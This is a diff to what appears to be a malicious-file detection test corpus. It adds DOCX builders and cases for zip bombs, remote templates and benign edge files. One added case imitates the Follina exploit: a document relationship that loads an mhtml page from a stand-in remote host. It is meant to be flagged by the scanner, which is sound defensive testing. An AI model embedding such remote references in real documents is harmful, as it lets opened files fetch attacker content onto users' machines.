@@ -159,6 +159,20 @@ def docx_with_remote_template() -> bytes:
     return rebuilt_zip(f.make_docx(), add={"word/_rels/settings.xml.rels": rels})
 
 
+def docx_with_relationship(part: str, kind: str, target: str) -> bytes:
+    """A DOCX whose relationship part `part` (added, or added to) holds an external relationship of
+    type `kind`."""
+    relationship = (f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                    f'relationships/{kind}" Target="{target}" TargetMode="External"/>').encode()
+    data = f.make_docx()
+    if part in zipfile.ZipFile(io.BytesIO(data)).namelist():
+        return rebuilt_zip(data, replace={part: lambda xml: xml.replace(b"</Relationships>",
+                                                                        relationship + b"</Relationships>")})
+    rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+            b'package/2006/relationships">' + relationship + b"</Relationships>")
+    return rebuilt_zip(data, add={part: rels})
+
+
 def _patch_sizes(data: bytes, name: str, *, file_size: int | None = None, compress_size: int | None = None) -> bytes:
     """Rewrite the sizes `name`'s local and central headers declare."""
     out = bytearray(data)
@@ -377,6 +391,10 @@ CORPUS = [
     Case("excel4-macro-sheet", "macros", "清单.xlsx",
          lambda: rebuilt_zip(f.make_xlsx(), add={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}), "office_macros"),
     Case("remote-template", "macros", "合同.docx", docx_with_remote_template, "office_macros"),
+    Case("remote-ole-object", "macros", "合同.docx",  # as CVE-2022-30190 ("Follina") did
+         lambda: docx_with_relationship("word/_rels/document.xml.rels", "oleObject",
+                                        "mhtml:http://files.example/x.html!x-usc:http://files.example/x.html"),
+         "office_macros"),
     # Zip bombs and zips whose headers lie.
     Case("bomb-lying-size", "zip", "合同.docx", lying_bomb, "zip_bomb"),
     Case("bomb-lying-size-small", "zip", "合同.docx", lambda: lying_bomb(real=200_000, declared=1000), "zip_bomb"),
@@ -449,6 +467,10 @@ CORPUS = [
     Case("tiff-multi-page", "benign edge", "scan.tiff",
          lambda: encode(picture(), "TIFF", save_all=True, append_images=[picture(200, 100)]), None,
          extraction=IMAGE_TEXT),
+    Case("docx-local-template", "benign edge", "合同.docx",  # as Word records a template on the author's disk
+         lambda: docx_with_relationship("word/_rels/settings.xml.rels", "attachedTemplate",
+                                        "file:///C:/Users/li/AppData/Roaming/Microsoft/Templates/合同模板.dotx"),
+         None, extraction="done"),
     Case("pdf-padded-after-eof", "benign edge", "合同.pdf", lambda: f.make_pdf() + b"\r\n" + b"\0" * 700, None,
          extraction="done"),
     Case("pdf-huge-embedded-image", "benign edge", "合同.pdf", pdf_with_huge_image, None,
